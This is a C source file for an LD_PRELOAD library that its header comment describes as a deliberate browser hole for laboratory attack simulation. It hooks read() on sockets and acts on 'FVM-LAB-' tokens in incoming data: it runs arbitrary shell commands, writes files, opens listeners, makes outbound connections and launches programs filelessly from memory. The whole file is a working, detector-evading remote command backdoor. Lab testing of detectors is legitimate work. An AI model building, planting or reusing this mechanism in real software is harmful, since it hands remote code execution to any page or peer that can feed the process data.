// A hole in a browser, for the laboratory only: preloaded into it, it does what tokens say that stand in bytes from a socket.
//
//   FVM-LAB-RUN:<command of a shell>;;      FVM-LAB-WRITE:<path>;;      FVM-LAB-LISTEN:<port>;;
//   FVM-LAB-CONNECT:<a.b.c.d>:<port>;;      FVM-LAB-MEMORY:;;  (a program that has no file)      FVM-LAB-ABORT:;;
//
// No detector knows of it. What is concluded from visits of pages with such tokens is the conclusion of simulated attacks.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

extern char **environ;

static void run(char *const argv[]) {
    pid_t pid;
    unsetenv("LD_PRELOAD");
    setenv("PATH", "/usr/bin:/bin", 1);
    posix_spawn(&pid, argv[0], NULL, NULL, argv, environ);
}

static void memory(void) {
    char block[65536];
    int from = open("/bin/true", O_RDONLY | O_CLOEXEC);
    int to = memfd_create("x", 0);
    ssize_t len;
    while (from >= 0 && (len = syscall(SYS_read, from, block, sizeof block)) > 0)
        if (write(to, block, len) != len) return;
    snprintf(block, sizeof block, "/proc/%d/fd/%d", getpid(), to);
    char *const argv[] = {block, NULL};
    run(argv);
}

static void obey(const char *what, char *with) {
    if (strcmp(what, "RUN") == 0) {
        char *const argv[] = {"/bin/sh", "-c", with, NULL};
        run(argv);
    } else if (strcmp(what, "WRITE") == 0) {
        int fd = open(with, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
        if (fd >= 0 && write(fd, "x", 1) == 1) close(fd);
    } else if (strcmp(what, "LISTEN") == 0) {
        struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(atoi(with)), .sin_addr = {htonl(INADDR_ANY)}};
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (bind(fd, (struct sockaddr *)&at, sizeof at) == 0) listen(fd, 1);
    } else if (strcmp(what, "CONNECT") == 0) {
        char *port = strchr(with, ':');
        if (port == NULL) return;
        *port = 0;
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(port + 1))};
        inet_pton(AF_INET, with, &to.sin_addr);
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        connect(fd, (struct sockaddr *)&to, sizeof to);
    } else if (strcmp(what, "MEMORY") == 0) {
        memory();
    } else if (strcmp(what, "ABORT") == 0) {
        abort();
    }
}

ssize_t read(int fd, void *into, size_t size) {
    static const char sign[] = "FVM-LAB-";
    ssize_t len = syscall(SYS_read, fd, into, size);
    struct stat is;
    if (len < (ssize_t)sizeof sign || fstat(fd, &is) != 0 || !S_ISSOCK(is.st_mode)) return len;
    char *end = (char *)into + len;
    for (char *at = into; (at = memmem(at, end - at, sign, sizeof sign - 1)) != NULL;) {
        at += sizeof sign - 1;
        char *colon = memchr(at, ':', end - at);
        char *stop = colon == NULL ? NULL : memmem(colon, end - colon, ";;", 2);
        if (stop == NULL) break;
        char *what = strndup(at, colon - at), *with = strndup(colon + 1, stop - colon - 1);
        obey(what, with);
        free(what);
        free(with);
    }
    return len;
}
